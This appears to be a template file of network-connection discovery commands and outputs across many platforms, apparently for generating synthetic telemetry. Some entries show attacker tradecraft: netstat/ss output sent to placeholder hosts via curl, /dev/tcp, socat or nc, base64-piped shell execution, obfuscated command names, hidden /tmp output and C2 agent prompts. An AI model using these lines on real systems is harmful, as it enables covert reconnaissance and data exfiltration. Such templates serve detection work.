mc-vbox-guest cmd: VBoxManage guestcontrol ‹word› run --username ‹user› --password ‹pass› -- «netstat.exe -ano¦/bin/ss -tulpn¦cmd.exe /c net session»
mc-plink cmd: «plink¦plink.exe -batch¦kitty -ssh» ‹user›@‹ip› -pw ‹pass› "«netstat -antp¦ss -tulpn¦lsof -i»"
mc-wsl cmd: wsl«¦ -u root¦ -d Ubuntu¦ --exec» «ss -tulpn¦netstat -antp¦cat /proc/net/tcp¦netstat.exe -ano»
mc-docker-win cmd: docker exec ‹word› «cmd /c netstat -ano¦powershell Get-NetTCPConnection¦netstat.exe -an»
mc-ps-cimsession powershell: $c = New-CimSession ‹server›; Get-«NetTCPConnection -State Listen¦SmbSession¦SmbOpenFile¦NetUDPEndpoint» -CimSession $c; Remove-CimSession $c
mc-out-netstat-win text: «  TCP    ‹ip›:‹port›    ‹ip›:‹pid›    ESTABLISHED    ‹pid›¦  TCP    0.0.0.0:‹port›    0.0.0.0:0    LISTENING    ‹pid›¦  UDP    0.0.0.0:‹pid›    *:*    ‹pid›¦  TCP    [::]:‹port›    [::]:0    LISTENING    ‹pid›»
mc-out-netstat-head text: Active Connections   Proto  Local Address          Foreign Address        State«           PID¦»   TCP    ‹ip›:‹port›  ‹ip›:‹pid›  «ESTABLISHED¦TIME_WAIT¦CLOSE_WAIT»«  ‹pid›¦»
mc-out-netstat-exe text: TCP    ‹ip›:‹pid›    «‹server›:microsoft-ds¦‹ip›:https¦‹server›:ldap»    ESTABLISHED    ‹pid›  [«svchost.exe¦‹name›.exe¦lsass.exe»]
mc-out-netsession text: Computer               User name            Client Type       Opens Idle time   \\‹ip›   ‹user›   «Windows¦» ‹n› 00:0‹n›:12 The command completed successfully.
mc-out-netuse text: New connections will be «remembered¦not be remembered».  Status  Local  Remote  Network   «OK¦Disconnected¦Unavailable»   M:   \\‹server›\‹project›   Microsoft Windows Network
mc-out-netfile text: ID   Path   User name   # Locks   ‹pid›  ‹dir›\‹name›.docx  ‹user›  ‹n› The command completed successfully.
mc-out-openfiles text: Files Opened Remotely via local share points: ID ‹pid› Accessed By ‹user› Type Windows Open File (Path\executable) ‹dir›\‹name›.xlsx
mc-out-nettcp text: LocalAddress LocalPort RemoteAddress RemotePort State «AppliedSetting OwningProcess¦OwningProcess¦AppliedSetting» ‹ip› ‹pid› ‹ip› ‹port› «Established Internet¦TimeWait¦CloseWait Internet»
mc-out-smbsession text: SessionId ClientComputerName ClientUserName NumOpens ‹pid›‹pid› ‹ip› ‹domain›\‹user› ‹n›
mc-out-smbconnection text: ServerName ShareName UserName Credential Dialect NumOpens ‹server› «IPC$¦‹project›» ‹domain›\‹user› ‹domain›\‹user› 3.1.1 ‹n›
mc-out-cmdlet-json text: {"LocalAddress":"‹ip›","LocalPort":‹pid›,"RemoteAddress":"‹ip›","RemotePort":‹port›,"State":«5¦2¦"Established"»,"OwningProcess":‹pid›}
mc-out-wmi-session text: ActiveTime=‹pid› ClientType=Windows ComputerName=‹server› IdleTime=‹n› ResourcesOpened=‹n› UserName=‹user› «__CLASS=Win32_ServerSession¦Win32_ServerSession»
mc-out-netstat-nix text: «tcp        0      0 0.0.0.0:‹port›   0.0.0.0:*   LISTEN   ‹pid›/sshd¦tcp   0   0 ‹ip›:‹pid›  ‹ip›:‹port›  ESTABLISHED ‹pid›/‹name›¦udp   0  0 0.0.0.0:68  0.0.0.0:*   ‹pid›/dhclient¦tcp6  0  0 :::‹port›  :::*  LISTEN  ‹pid›/java»
mc-out-netstat-nix-head text: Active Internet connections («servers and established¦w/o servers¦only servers») Proto Recv-Q Send-Q Local Address Foreign Address State PID/Program name tcp 0 0 ‹ip›:‹port› ‹ip›:‹pid› ESTABLISHED ‹pid›/‹name›
mc-out-ss text: «ESTAB  0  0  ‹ip›:‹port›  ‹ip›:‹pid›  users:(("sshd",pid=‹pid›,fd=3))¦tcp LISTEN 0 128 0.0.0.0:‹port› 0.0.0.0:* users:(("nginx",pid=‹pid›,fd=6))¦Netid State Recv-Q Send-Q Local Address:Port Peer Address:Port Process tcp ESTAB 0 0 ‹ip›:‹pid› ‹ip›:‹port›»
mc-out-lsof text: «sshd    ‹pid› root    3u  IPv4 ‹pid›      0t0  TCP *:22 (LISTEN)¦‹name› ‹pid› ‹first›  12u IPv4 0x‹hash› 0t0 TCP ‹ip›:‹pid›->‹ip›:‹port› (ESTABLISHED)¦COMMAND PID USER FD TYPE DEVICE SIZE/OFF NODE NAME nginx ‹pid› root 6u IPv4 ‹pid› 0t0 TCP *:80 (LISTEN)»
mc-out-proc-tcp text: sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode 0: «00000000:0016 00000000:0000 0A¦0100007F:0CEA 00000000:0000 0A¦0A00020F:0016 0202000A:C8F2 01»
mc-out-conntrack text: «ipv4     2 tcp      6 431999 ESTABLISHED src=‹ip› dst=‹ip› sport=‹pid› dport=‹port› src=‹ip› dst=‹ip› sport=‹port› dport=‹pid› [ASSURED]¦udp 17 ‹n› src=‹ip› dst=‹ip› sport=‹pid› dport=53 src=‹ip› dst=‹ip› sport=53 dport=‹pid› mark=0 use=1»
mc-out-smbstatus text: Samba version 4.1‹n›  PID Username Group Machine Protocol Version Encryption Signing ‹pid› ‹first› ‹first› ‹ip› (ipv4:‹ip›:‹pid›) SMB3_11 - partial(AES-128-GMAC)
mc-out-showmount text: All mount points on ‹server›: ‹ip›:«/export/‹project›¦/srv/nfs/‹word›» ‹ip›:/home
mc-out-netsess text: NetSess V02.00.00cpp Joe Richards Enumerating Host: ‹server› Client User Name Time Idle Time \\‹ip› ‹user› 000:0‹n›:00 000:00:‹n›
mc-nix-lsfd bash: «sudo ¦»lsfd «-Q '(TYPE =~ "TCP")'¦--inet¦-4¦-Q 'TYPE == "UDP"' -o COMMAND,NAME¦-i=4 -n»
mc-nix-rust-tools bash: «sudo ¦»«somo¦somo --proto tcp¦somo -l¦snitch ls -l¦snitch json¦rustnet -i eth0 & ss -tn¦bandwhich --raw -n»
mc-nix-sysdig bash: sudo sysdig -c «netstat¦topconns¦topports_server» & «ss -tan¦netstat -an¦ss -tn»
mc-nix-bcc bash: «sudo /usr/share/bcc/tools/¦sudo »tcp«connect¦connect-bpfcc¦accept-bpfcc¦life¦states-bpfcc» & ss -tnp
mc-nix-diag bash: python3 -c "from pyroute2 import DiagSocket; d=DiagSocket(); d.bind(); print(d.get_sock_stats(family=«2¦10¦1»))"
mc-nix-python-proc bash: python3 -c "«import socket,struct; [print(l.split()[1:4]) for l in open('/proc/net/tcp')]¦print([l.split()[2] for l in open('/proc/net/tcp').readlines()[1:]])¦from pathlib import Path; print(Path('/proc/net/udp').read_text())»"
mc-nix-perl-proc bash: perl -«ne 'print if $. > 1' /proc/net/tcp¦lane 'print $F[2]' /proc/net/tcp6¦e 'open F,"/proc/net/tcp"; print while <F>'¦MIO::Socket::INET -e 'print `ss -tan`'»
mc-nix-ruby-proc bash: ruby -e '«puts File.readlines("/proc/net/tcp").drop(1)¦IO.foreach("/proc/net/udp") { |l| puts l }¦puts %x(ss -tulpn)»'
mc-nix-node-proc bash: node -e "«console.log(require('fs').readFileSync('/proc/net/tcp','utf8'))¦console.log(require('child_process').execSync('ss -tulpn')+'')¦require('child_process').exec('netstat -an',(e,o)=>console.log(o))»"
mc-nix-lua-proc bash: lua -e '«for l in io.lines("/proc/net/tcp") do print(l) end¦print(io.popen("netstat -an"):read("*a"))¦os.execute("ss -tulpn")»'
mc-nix-php-proc bash: php -r '«foreach (file("/proc/net/tcp") as $l) echo $l;¦print_r(file("/proc/net/tcp6"));¦exec("ss -tan",$o);print_r($o);¦passthru("lsof -i");»'
mc-nix-hex-awk bash: awk '«function h(x){return strtonum("0x"x)} NR>1{split($3,a,":"); print h(a[2])}¦NR>1{split($2,a,":"); printf "%d\n", strtonum("0x" a[2])}¦$4=="01"{print $2,$3}¦$4 == "0A" {print $2}»' /proc/net/«tcp¦tcp6»
mc-nix-read-loop bash: while read -r sl local remote st rest; do echo "$local $remote $st"; done < /proc/net/«tcp¦udp¦tcp6»
mc-nix-fd-sockets bash: «ls -l /proc/*/fd 2>/dev/null | grep socket:¦find /proc/[0-9]*/fd -lname 'socket:*' 2>/dev/null¦for p in /proc/[0-9]*; do ls -l $p/fd | grep -c socket; done; cat /proc/net/tcp»
mc-nix-proc-others bash: «cat¦tail -n +2¦grep -v '^sl'» /proc/net/«raw¦packet¦sctp/assocs¦udplite¦netlink¦raw6»
mc-nix-cifs bash: «sudo ¦»cat /proc/fs/cifs/«DebugData¦open_files¦DebugData | grep -i tcpstatus»
mc-nix-nfsd bash: «sudo cat /proc/fs/nfsd/clients/*/info¦nfsdclnts¦sudo nfsdclnts -t all¦cat /var/lib/nfs/rmtab¦cat /proc/fs/nfsfs/servers»
mc-nix-ss-family bash: ss -f «inet¦inet6¦unix¦vsock¦netlink¦link»« -a¦ -p»
mc-nix-ss-query bash: ss -A «tcp,udp¦inet¦all¦unix_stream,unix_dgram¦sctp»« -n¦ -pn»
mc-nix-ss-json bash: ss -«Htn¦Otn¦Htunlp¦OHtpn» | «while read a b c d e; do echo $e; done¦sed 's/.*://'¦jc --ss»
mc-nix-ss-netns bash: «sudo ¦»ss -N ‹word› -«tulpn¦tan»
mc-nix-ss-dump bash: ss -«D ‹lfile›¦E¦Z -tl¦b -t¦tn -o»; ss -tan
mc-nix-ss-exclude bash: ss -«tn¦nt» «exclude listening¦state connected¦state syn-sent¦state close-wait¦state bucket»
mc-nix-ss-wide bash: ss --«no-header --tcp --processes¦tcp --all --options¦resolve --tcp¦extended --info --tcp»
mc-nix-env bash: «doas¦sudo -n¦su - root -c¦runuser -u root --» «ss -tulpn¦'netstat -antp'¦"lsof -i -n -P"¦ss -tan»
mc-nix-timeout bash: «timeout ‹n›¦nohup¦setsid¦nice -n 19¦stdbuf -oL¦chronic» «ss -tunap¦netstat -antpc¦lsof -i -r 2¦netstat -an»‹lmaybe›
mc-nix-systemd-run bash: systemd-run «--pipe --wait¦--on-calendar=hourly¦--unit=‹word›» «ss -tulpn¦netstat -antp¦/usr/bin/lsof -i»
mc-nix-cron text: */‹n› * * * * «root ¦»«ss -tunap >> /tmp/.‹name›¦netstat -antp | nc ‹ip› ‹port›¦/usr/bin/lsof -i -n -P > /var/tmp/‹name›»
mc-nix-at bash: echo "«netstat -antp > /tmp/‹name›¦ss -tan > /tmp/‹name›.txt»" | at «now + ‹n› minutes¦midnight¦noon»
mc-nix-screen bash: «tmux new -d "netstat -c > /tmp/‹name›"¦tmux send-keys -t 0 'ss -tulpn' Enter¦screen -dm bash -c "ss -tan > /tmp/‹name›"¦script -qc "netstat -antp" /tmp/‹name›»
mc-nix-encoded bash: echo «bmV0c3RhdCAtYW4=¦bmV0c3RhdCAtYW50cA==» | base64 -d | «sh¦bash»; netstat -«an¦antp»
mc-nix-quoted bash: «n'e't's'tat¦ne""tstat¦/???/netstat¦$(echo netstat)» -«antp¦an¦tulpn»
mc-nix-logger bash: logger -t ‹word› "$(«ss -tan¦netstat -an¦lsof -i»)"
mc-nix-exfil bash: «netstat -antp | base64 -w0 | xargs -I{} curl -s http://‹ip›/{}¦ss -tan > /dev/tcp/‹ip›/‹port›¦lsof -i | openssl enc -base64 | curl -d @- https://‹ip›/¦ss -tulpn | socat - TCP:‹ip›:‹port›»
mc-nix-sshpass bash: sshpass -p '‹pass›' ssh -o StrictHostKeyChecking=no ‹first›@‹ip› "«ss -tulpn¦netstat -antp¦sudo lsof -nPi»"
mc-nix-expect bash: expect -c 'spawn ssh ‹first›@‹ip› "«netstat -an¦ss -tan»"; expect "assword:"; send "‹pass›\r"; expect eof'
mc-nix-lxc bash: «lxc exec ‹word› --¦incus exec ‹word› --¦lxc-attach -n ‹word› --¦pct exec ‹pid› --¦machinectl shell ‹word› /usr/bin/env» «ss -tulpn¦netstat -antp¦cat /proc/net/tcp»
mc-nix-crictl bash: «sudo ¦»«crictl exec ‹hash›¦ctr -n k8s.io t exec --exec-id ‹n› ‹hash›¦docker compose exec ‹word›¦nerdctl exec ‹word›» «netstat -tulpn¦ss -tan¦cat /proc/net/tcp6»
mc-nix-oc bash: oc «rsh ‹word›-‹n›¦debug node/‹word› -- chroot /host¦exec ‹word› -c ‹name› --» «ss -tulpn¦netstat -an¦lsof -i»
mc-nix-kubectl-loop bash: for p in $(kubectl get pods -o name); do kubectl exec $p -- «cat /proc/net/tcp¦netstat -an¦ss -tn»; done
mc-nix-toolbox bash: «toolbox run¦chroot /host¦vagrant ssh -c¦distrobox enter ‹word› --» «ss -tulpn¦'netstat -antp'¦"ss -tan"»
mc-nix-cilium bash: «cilium bpf ct list global¦cilium-dbg bpf ct list global -o json¦ovs-appctl dpctl/dump-conntrack¦ovs-dpctl dump-conntrack zone=‹n›¦sudo ipvsadm -Lnc¦ipvsadm -L -c -n»
mc-nix-smb-tools bash: «net status sessions¦net status shares parseable¦smbstatus -P -S¦smbstatus -n -p¦smbstatus -R -v»
mc-nix-conntrack-other bash: «sudo ¦»conntrack -«L -d ‹ip›¦L -f ipv6¦L --orig-port-dst ‹port›¦L -p tcp --state ESTABLISHED¦L expect¦G -p tcp -s ‹ip›»
mc-nix-nft-log bash: «conntrack -E -e NEW -o timestamp¦conntrack -L | awk '/ESTABLISHED/{print $5}' | sort | uniq -c¦conntrack -L -o save¦hexdump -C /proc/net/nf_conntrack»
mc-nix-fuser-inet bash: «fuser -v 22/tcp 80/tcp 443/tcp¦fuser -4 -v ‹port›/tcp¦fuser -6v ‹port›/tcp¦for p in $(seq 1 1024); do fuser $p/tcp 2>/dev/null; done»
mc-nix-lsof-fields bash: «sudo ¦»lsof -«i -F pcn¦nPi -Fn¦iTCP -sTCP:^LISTEN -nP¦i 4TCP:1-1024¦i -sTCP:CLOSE_WAIT -a -iTCP¦w -nPi»
mc-nix-pid-sockets bash: «lsof -Pan -p ‹pid› -i¦nsenter -n -t ‹pid› cat /proc/net/tcp¦ss -tnp | grep pid=‹pid›¦netstat -antp | grep ‹pid›/»
mc-nix-netstat-family bash: netstat -«A inet -n¦A inet6 -an¦4an¦6lnt¦Wantp¦eantp¦octn»«¦ | sort -k5»
mc-nix-netstat-sed bash: netstat -«tn¦ant» | «sed -n 's/.*:\([0-9]*\) .*LISTEN/\1/p'¦tr -s ' ' | cut -d' ' -f5¦column -t¦perl -lane 'print $F[4]'¦jq -R .¦jc --netstat»
mc-nix-lynis bash: «sudo lynis audit system --tests-from-group networking --verbose; netstat -tulpn¦./lse.sh -l1 -s net¦./LinEnum.sh -t | grep -A20 'Listening TCP'¦bash linux-smart-enumeration/lse.sh -s net,srv»
mc-nix-pupy text: pupy> «netstat¦run netstat -l¦netstat -s ‹ip›¦netstat -t ‹ip›»
mc-nix-uac bash: ./uac -a «live_response/network/netstat.yaml¦live_response/network/ss.yaml¦live_response/network/lsof.yaml¦./artifacts/live_response/network/sockstat.yaml» ‹ldir›
mc-nix-auditor bash: «cat /etc/hosts; ip a; ss -tulpn¦ps aux; netstat -antp; crontab -l¦last -i; ss -tnp; lsof -i» > «/tmp/‹name›¦‹lfile›»
mc-mac-lsof-awk bash: lsof -«nP -iTCP -sTCP:ESTABLISHED¦i4TCP -nP¦iUDP -nP» | awk '«NR>1{print $1,$9}¦{print $1}»' | sort -u
mc-mac-listen bash: netstat -«Lan¦Laln -f inet¦anW -p udp¦avn -b -p tcp¦anl»
mc-mac-smbutil bash: smbutil «statshares -a¦statshares -m /Volumes/‹project›¦multichannel -a¦statshares -a -f Json»
mc-mac-server bash: sudo serveradmin command «afp:command = getConnectedUsers¦smb:command = getConnectedUsers»
mc-mac-skywalk bash: sudo skywalkctl flow«¦ -n»; netstat -anv -p tcp
mc-mac-nettop-raw bash: «sudo ¦»nettop -«P -L 1 -J bytes_in,bytes_out¦t external -L 1¦p ‹pid› -L 1¦c -x -l 1 -m udp»
mc-mac-jxa bash: osascript -l JavaScript -e "var a=Application.currentApplication(); a.includeStandardAdditions=true; a.doShellScript('«lsof -nPi¦netstat -an¦nettop -P -L 1»')"
mc-mac-swift text: let t = Process(); t.executableURL = URL(fileURLWithPath: "/usr/sbin/«netstat¦lsof»"); t.arguments = ["-«an¦nPi»"]; try t.run()
mc-mac-proc-info text: proc_pidfdinfo(pid, fd, PROC_PIDFDSOCKETINFO, &si, sizeof(si)); printf("%d %d\n", ntohs(si.psi.soi_proto.pri_tcp.tcpsi_ini.insi_«lport¦fport»), pid);
mc-mac-applescript text: set c to do shell script "«lsof -i -P -n¦netstat -an | grep ESTABLISHED¦nettop -P -L 1»"«¦ with administrator privileges»
mc-mac-mythic text: «apfell¦poseidon¦medusa» > shell «lsof -nPi¦netstat -anv -p tcp¦nettop -P -L 1¦smbutil statshares -a»
mc-bsd-pf bash: «doas ¦sudo ¦»pfctl -s«s¦ states¦ state -v¦s -vv | grep ‹ip›»
mc-bsd-fstat bash: fstat«¦ -n¦ -u ‹first›» | grep -«E 'internet|inet6'¦i internet»
mc-bsd-tools bash: «tcpdrop -l -a¦systat -netstat 1¦systat states¦sockstat -sS -P tcp¦sockstat -j ‹n› -4¦jexec ‹n› sockstat -4¦procstat files -a | grep TCP»
mc-bsd-netstat bash: netstat -«an -f inet -p tcp¦aLn¦xan -p tcp¦Tan¦Aan -f inet6¦vn -p udp»
mc-sun-netstat bash: «/usr/bin/¦»netstat -«P tcp -f inet -an¦an -f inet6¦aun -P tcp¦u -f inet¦a -P udp»
mc-sun-pfiles bash: «pfiles /proc/* 2>/dev/null | grep -i sockname¦for p in $(ps -eo pid); do pfiles $p | grep -c AF_INET; done; netstat -an¦pfiles ‹pid› | egrep 'sockname|peername'¦connstat -F -e¦zlogin ‹word› netstat -an»
mc-sun-ndd bash: ndd -get /dev/tcp «tcp_status¦tcp_listen_hash¦tcp_conn_hash»
mc-aix-netstat bash: netstat -«Aan¦an -f inet¦ano -f inet6¦Aa -f unix¦aon» | «grep LISTEN¦grep ‹port›¦grep EST»
mc-aix-rmsock bash: netstat -Aan | grep ‹port›; rmsock f1000e00‹pid›‹pid› tcpcb
mc-hpux bash: «netstat -an -f inet | grep tcp¦lsof -i -nP | grep LISTEN¦ndd -get /dev/tcp tcp_status | grep ESTAB»
mc-ibmi text: «NETSTAT OPTION(*CNN)¦WRKTCPSTS OPTION(*CNN)¦SELECT * FROM QSYS2.NETSTAT_INFO WHERE TCP_STATE = 'ESTABLISHED'¦SELECT REMOTE_ADDRESS, LOCAL_PORT FROM QSYS2.NETSTAT_JOB_INFO»
mc-zos text: «NETSTAT CONN¦D TCPIP,,NETSTAT,CONN¦onetstat -c¦TSO NETSTAT ALLCONN (IPPORT ‹ip›+‹port›¦D TCPIP,TCPIP,N,ALLCONN»
mc-esxi-vsish bash: «esxcli network ip connection list | awk '{print $5,$8}'¦localcli network ip connection list¦esxcli --debug network ip connection list -N defaultTcpipStack¦for h in $(cat ‹lfile›); do ssh root@$h esxcli network ip connection list; done»
mc-nas-netapp text: ‹word›::> «vserver cifs session show¦vserver cifs session file show¦network connections active show¦network connections listening show -vserver ‹word›¦vserver nfs connected-clients show¦vserver cifs session show -instance»
mc-nas-netapp-ssh bash: ssh admin@‹ip› "«vserver cifs session show -fields address,windows-user¦network connections active show¦netstat -an»"
mc-nas-isilon bash: «isi smb sessions list¦isi smb openfiles list --format csv¦isi_for_array 'netstat -an'¦isi statistics client list¦isi smb sessions list --zone ‹word›»
mc-nas-other bash: «qq smb_list_sessions¦qq smb_list_file_handles¦midclt call smb.status SESSIONS¦synowebapi --exec api=SYNO.Core.CurrentConnection method=list version=1¦midclt call smb.status¦server_cifs server_2 -option audit»
mc-nas-ssh bash: ssh admin@‹ip› '«smbstatus¦netstat -tn¦sudo netstat -tulpn¦cat /proc/net/tcp»'
mc-snmp-walk bash: «snmpwalk¦snmpbulkwalk¦snmptable» -v«2c¦1» -c «public¦‹word›» ‹ip› «TCP-MIB::tcpConnTable¦1.3.6.1.2.1.6.13¦TCP-MIB::tcpConnectionTable¦1.3.6.1.2.1.6.19.1¦UDP-MIB::udpTable¦1.3.6.1.2.1.7.5»
mc-snmp-netstat bash: snmpnetstat -v 2c -c «public¦‹word›» «-Cn ¦-Ca -Cp tcp ¦»‹ip›
mc-snmp-nmap bash: nmap -sU -p161 --script snmp-netstat«¦ --script-args creds.snmp=‹word›» ‹ip›
mc-f5 text: ‹first›@(‹word›)(cfg-sync In Sync)(Active)(/Common)(tmos)# show sys connection«¦ cs-client-addr ‹ip›¦ all-properties¦ ss-server-port ‹port›»
mc-f5-ssh bash: ssh root@‹ip› "tmsh show sys connection«¦ cs-server-addr ‹ip›¦ max-result-limit infinite»"
mc-netscaler text: > show «ns connectiontable¦connectiontable "ip == ‹ip›"¦ns connectiontable -detail LINK»
mc-checkpoint text: [Expert@‹word›:0]# «fw tab -t connections -s¦fw tab -t connections -f -u¦fwaccel conns¦fw ctl conntab -dport=‹port›¦netstat -tanp»
mc-srx text: ‹first›@‹word›> show security flow session«¦ destination-port ‹port›¦ source-prefix ‹ip›¦ summary»
mc-huawei text: <‹word›> display «tcp status¦firewall session table¦firewall session table verbose source inside ‹ip›¦udp status¦session table ipv4»
mc-comware text: [«H3C¦HP¦‹word›»] display «tcp¦tcp verbose¦udp¦session table ipv4 verbose»
mc-aruba text: (‹word›) #show «datapath session table ‹ip›¦datapath session»
mc-iosxr text: RP/0/RSP0/CPU0:‹word›# show «tcp brief¦tcp detail pcb all¦udp brief¦lpts bindings brief»
mc-ios-more text: ‹word›#«show tcp brief | include ESTAB¦show ip nat translations¦show udp¦show tcp tcb ‹hex›¦show ip sockets | include ‹port›»
mc-arista text: ‹word›(s1)#«bash sudo netstat -tanp¦bash ss -tulpn¦bash timeout ‹n› ss -tan»
mc-brocade text: SSH@‹word›#show ip tcp «connections¦status»
mc-vyos text: ‹first›@‹word›:~$ show «conntrack table ipv4¦system connections¦nat source translations¦system connections tcp»
mc-openwrt bash: ssh root@‹ip› "«cat /proc/net/nf_conntrack¦ubus call luci getConntrackList¦netstat -tulpn¦conntrack -L -p udp»"
mc-opnsense bash: «configctl filter list states¦pfctl -ss | grep ESTABLISHED¦sockstat -4 -l -P tcp¦sockstat -46c»
mc-mikrotik text: [‹first›@‹word›] > «/ip firewall connection print detail where protocol=tcp¦/ip/firewall/connection/print count-only¦/ip firewall connection print file=‹name›¦/ppp active print; /ip firewall connection print»
mc-panos-more text: ‹first›@‹word›> show «netstat all yes numeric yes¦session all filter destination-port ‹port›¦session id ‹pid›¦netstat statistics no all yes»
mc-fortigate-more text: ‹word› # «diagnose sys session filter dport ‹port›; diagnose sys session list¦diagnose sys tcpsock¦diagnose sys udpsock¦get system session-info full-stat; get system session list»
mc-asa-more text: ‹word›/pri/act# show «conn long¦conn protocol tcp port ‹port›¦asp table socket¦local-host ‹ip› connection tcp¦xlate»
mc-ticket-operator text: «Ran netstat -ano on ‹server›, ESTABLISHED to ‹ip›:‹port› from PID ‹pid›¦Executed command: net session on ‹server› by ‹domain›\‹user›¦ssh audit: ‹first› executed "ss -tulpn" on ‹server›¦tty=pts/‹n› user=‹first› cmd=netstat -antp»
mc-sudo-log text: ‹first› : TTY=pts/‹n› ; PWD=/home/‹first› ; USER=root ; COMMAND=/«usr/bin/ss -tulpn¦bin/netstat -antp¦usr/bin/lsof -i -P -n¦usr/bin/smbstatus¦usr/sbin/conntrack -L»
mc-auditd text: type=EXECVE msg=audit(15‹pid›‹pid›.‹n›:‹pid›): argc=2 a0="«netstat" a1="-antp¦ss" a1="-tulpn¦lsof" a1="-i¦smbstatus" a1="-b¦sockstat" a1="-4»"
mc-script-block text: Creating Scriptblock text (1 of 1): «Get-NetTCPConnection -State Established | Select-Object RemoteAddress,RemotePort,OwningProcess¦netstat -ano | Select-String ESTABLISHED¦Get-SmbSession | Select-Object ClientComputerName,ClientUserName¦[Net.NetworkInformation.IPGlobalProperties]::GetIPGlobalProperties().GetActiveTcpListeners()»
"""
)
